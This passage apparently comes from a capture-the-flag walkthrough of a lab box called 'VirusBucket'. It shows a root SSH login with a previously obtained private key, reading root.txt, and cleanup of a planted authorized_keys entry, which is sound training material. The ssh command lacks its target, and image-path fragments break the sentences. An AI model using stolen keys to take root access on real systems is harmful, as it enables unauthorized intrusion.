And nowwith the private key that we have on our box, let’s try to login to the box as root using ssh.

$ ssh -i id_rsa root@

And it worked. Nowwe are root on the box. AWESOME!!!

Reading root.txt


And clearing the mess that we had created earlier

root@VirusBucket:~# vi .ssh/authorized_keys
root@VirusBucket:~# cd .ssh
root@VirusBucket:~/.ssh# cat authorized_keys | wc -l